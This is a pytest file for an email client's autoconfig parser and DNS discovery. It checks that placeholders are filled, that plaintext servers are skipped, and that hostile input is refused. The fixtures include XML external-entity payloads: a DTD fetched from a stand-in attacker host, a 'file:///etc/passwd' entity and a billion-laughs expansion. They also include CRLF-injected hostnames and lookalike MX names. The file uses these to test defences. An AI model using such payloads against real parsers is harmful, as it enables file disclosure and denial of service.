"""Settings that a domain publishes: taken where they are safe, from hostile files never."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field

import pytest

from siegel.base.address import EmailAddress
from siegel.transport import autoconfig
from siegel.transport.autoconfig import Found, Origin, Service, Srv, look, parse
from siegel.transport.fetching import Budget, Fetched, Outcome, Post
from siegel.transport.mail_server import Security

NINA = EmailAddress.parse("nina@office.example")
IMAP = Service(
    host="imap.office.example", port=993, security=Security.TLS, user="nina@office.example"
)
SMTP = Service(
    host="smtp.office.example", port=587, security=Security.STARTTLS, user="nina@office.example"
)


def server(
    element: str, kind: str, host: str, port: str, socket: str, user: str = "%EMAILADDRESS%"
) -> str:
    return (
        f'<{element} type="{kind}"><hostname>{host}</hostname><port>{port}</port>'
        f"<socketType>{socket}</socketType><username>{user}</username>"
        f"<authentication>password-cleartext</authentication></{element}>"
    )


def config(*servers: str, head: str = "") -> bytes:
    inside = "".join(servers)
    return (
        f'<?xml version="1.0"?>{head}<clientConfig version="1.1">'
        f'<emailProvider id="office.example"><domain>office.example</domain>{inside}'
        "</emailProvider></clientConfig>"
    ).encode()


INCOMING = server("incomingServer", "imap", "imap.%EMAILDOMAIN%", "993", "SSL")
OUTGOING = server("outgoingServer", "smtp", "smtp.office.example", "587", "STARTTLS")


def test_placeholders_are_filled() -> None:
    local = server("incomingServer", "imap", "IMAP.%EMAILDOMAIN%", "993", "SSL", "%EMAILLOCALPART%")

    found = parse(config(local, OUTGOING), NINA)

    assert found is not None
    assert found.imap.host == "imap.office.example"
    assert found.imap.user == "nina"
    assert found.smtp == SMTP


def test_pop_and_plain_servers_are_passed_over() -> None:
    found = parse(
        config(
            server("incomingServer", "pop3", "pop.office.example", "995", "SSL"),
            server("incomingServer", "imap", "plain.office.example", "143", "plain"),
            INCOMING,
            server("outgoingServer", "smtp", "plain.office.example", "25", "plain"),
            OUTGOING,
        ),
        NINA,
    )
    assert found == Found(origin=Origin.PUBLISHED, imap=IMAP, smtp=SMTP)


def test_a_file_that_offers_only_plain_imap_offers_nothing() -> None:
    plain = server("incomingServer", "imap", "imap.office.example", "143", "plain")
    assert parse(config(plain, OUTGOING), NINA) is None


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "localhost", "10.0.0.5", "[::1]", "a b.example", "x/y.example", "u@h.example",
     "-a.example", "", "a" * 300 + ".example", "host.example\r\nX: y"],
)  # fmt: skip
def test_a_host_that_is_no_name_is_not_taken(host: str) -> None:
    assert parse(config(server("incomingServer", "imap", host, "993", "SSL"), OUTGOING), NINA) is (
        None
    )


@pytest.mark.parametrize("port", ["0", "65536", "-1", "99999999999", "neun", "9 3", "", "٩٩٣"])
def test_a_port_that_is_none_is_not_taken(port: str) -> None:
    told = server("incomingServer", "imap", "imap.office.example", port, "SSL")
    assert parse(config(told, OUTGOING), NINA) is None


ENTITIES = '<!DOCTYPE clientConfig [<!ENTITY a "imap.office.example">]>'
OUTSIDE = '<!DOCTYPE clientConfig SYSTEM "http://thief.example/x.dtd">'
FILE = '<!DOCTYPE clientConfig [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE clientConfig [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


@pytest.mark.parametrize("head", [ENTITIES, OUTSIDE, FILE, LAUGHS, "<!DOCTYPE clientConfig>"])
def test_a_file_with_a_document_type_is_refused(head: str) -> None:
    assert parse(config(INCOMING, OUTGOING, head=head), NINA) is None


@pytest.mark.parametrize(
    "xml",
    [
        b"",
        b"\xff\xfe\x00",
        b"<clientConfig>",
        b"<html><body>Not found</body></html>",
        b"<a>" * 100_000,
        config(INCOMING, OUTGOING) + b" " * autoconfig.MAX_XML,
        config("<x/>" * (autoconfig.MAX_ELEMENTS + 1), INCOMING, OUTGOING),
        config("<x>" * 20 + "</x>" * 20, INCOMING, OUTGOING),
        config(f"<x>{'y' * 600}</x>", INCOMING, OUTGOING),
        b'<?xml version="1.0" encoding="nonsense"?><clientConfig/>',
    ],
)
def test_a_file_that_is_none_is_not_believed(xml: bytes) -> None:
    assert parse(xml, NINA) is None


@dataclass
class Web:
    pages: Mapping[str, bytes] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)

    def fetch(
        self, url: str, *, most: int, budget: Budget, accept: str = "*/*", post: Post | None = None
    ) -> Fetched:
        del budget, accept, post
        self.asked.append(url)
        body = self.pages.get(url)
        assert most == autoconfig.MAX_XML
        return Fetched(Outcome.UNREACHABLE) if body is None else Fetched(Outcome.FETCHED, body)


@dataclass
class Names:
    records: Mapping[str, Sequence[Srv]] = field(default_factory=dict)
    exchanges: Sequence[str] = ()

    def srv(self, name: str, seconds: float) -> Sequence[Srv]:
        del seconds
        return self.records.get(name, ())

    def mx(self, domain: str, seconds: float) -> Sequence[str]:
        del domain, seconds
        return self.exchanges


def record(host: str, port: int, priority: int = 0, weight: int = 0) -> Srv:
    return Srv(priority=priority, weight=weight, host=host, port=port)


SRV = {
    "_imaps._tcp.office.example": [record("imap.office.example", 993)],
    "_submissions._tcp.office.example": [record("smtp.office.example", 465)],
}


def test_only_https_is_asked_and_the_address_is_not_told() -> None:
    web = Web()

    assert look(NINA, source=web, dns=Names()) is None

    assert web.asked == [
        "https://autoconfig.office.example/mail/config-v1.1.xml",
        "https://office.example/.well-known/autoconfig/mail/config-v1.1.xml",
    ]


def test_what_is_published_comes_before_dns() -> None:
    page = "https://office.example/.well-known/autoconfig/mail/config-v1.1.xml"
    found = look(NINA, source=Web({page: config(INCOMING, OUTGOING)}), dns=Names(SRV))
    assert found is not None
    assert found.origin is Origin.PUBLISHED


def test_records_are_taken_by_priority_and_weight() -> None:
    names = Names(
        SRV
        | {
            "_imaps._tcp.office.example": [
                record("third.office.example", 993, 20, 90),
                record("second.office.example", 993, 10, 1),
                record("first.office.example", 993, 10, 5),
            ]
        }
    )
    found = look(NINA, source=Web(), dns=names)
    assert found is not None
    assert (found.origin, found.imap.host) == (Origin.DNS, "first.office.example")


def test_a_dot_means_that_there_is_no_such_service() -> None:
    names = Names(
        SRV
        | {
            "_imaps._tcp.office.example": [record("", 0)],
            "_imap._tcp.office.example": [record("imap.office.example", 143)],
        }
    )
    found = look(NINA, source=Web(), dns=names)
    assert found is not None
    assert (found.imap.port, found.imap.security) == (143, Security.STARTTLS)


def test_hosts_of_another_domain_are_marked() -> None:
    names = Names(SRV | {"_imaps._tcp.office.example": [record("imap.hoster.example", 993)]})
    found = look(NINA, source=Web(), dns=names)
    assert found is not None
    assert found.other_hosts("office.example") == ("imap.hoster.example",)


@pytest.mark.parametrize(
    ("exchange", "provider", "host"),
    [
        ("office-example.mail.protection.outlook.com", "microsoft", "outlook.office365.com"),
        ("aspmx.l.google.com", "google", "imap.gmail.com"),
    ],
)
def test_customers_of_large_providers_are_known_by_their_mx(
    exchange: str, provider: str, host: str
) -> None:
    found = look(NINA, source=Web(), dns=Names(exchanges=[exchange]))
    assert found is not None
    assert (found.provider, found.imap.host) == (provider, host)


def test_a_lookalike_of_a_large_provider_is_not_known() -> None:
    exchanges = ["mail.protection.outlook.com.thief.example", "notgoogle.com"]
    assert look(NINA, source=Web(), dns=Names(exchanges=exchanges)) is None
